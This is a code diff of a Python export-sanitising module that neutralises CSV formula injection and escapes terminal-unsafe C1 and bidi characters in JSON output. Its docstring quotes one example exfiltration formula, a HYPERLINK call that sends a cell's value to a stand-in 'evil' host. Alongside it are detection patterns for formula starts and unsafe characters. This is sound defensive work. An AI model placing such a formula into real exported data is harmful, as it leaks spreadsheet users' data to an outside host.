@@ -12,7 +12,9 @@ some importers, tab or CR) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click
 the sheet. CSV follows OWASP's rule (CSV injection): such a text cell gets a leading
 ``'``, which spreadsheets hide and do not run. Numbers are left alone (a negative score is
 not a formula). ``--raw`` turns the rule off for pipelines that need the values as
-archived; JSON is data, escaped by JSON, and stays as archived.
+archived. JSON is data and stays as archived, but ``json.dumps(ensure_ascii=False)``
+writes C1 and bidi characters literally, so ``json_escape`` spells them ``\\u009b``: the
+same string to any JSON reader, inert on a terminal.
 """
 
 from __future__ import annotations
@@ -24,6 +26,8 @@ from collections.abc import Iterable, Iterator, Mapping
 # (U+202A-U+202E) and isolates (U+2066-U+2069).
 _TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# What json.dumps(ensure_ascii=False) leaves literal but a terminal may act on.
+_JSON_UNSAFE = re.compile("[\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 
 
 def for_terminal(value: object) -> str:
@@ -53,3 +57,12 @@ def csv_rows(
 ) -> Iterator[dict[str, object]]:
     """``csv_row`` for each row, lazily (exports stream)."""
     return (csv_row(row, terminal=terminal, raw=raw) for row in rows)
+
+
+def json_escape(dumped: str) -> str:
+    """JSON text from ``json.dumps`` with C1, DEL and bidi characters as ``\\uXXXX`` escapes.
+
+    Lossless: outside strings JSON text is ASCII, and inside one an escape is the same
+    character, so the parsed data is unchanged.
+    """
+    return _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", dumped)
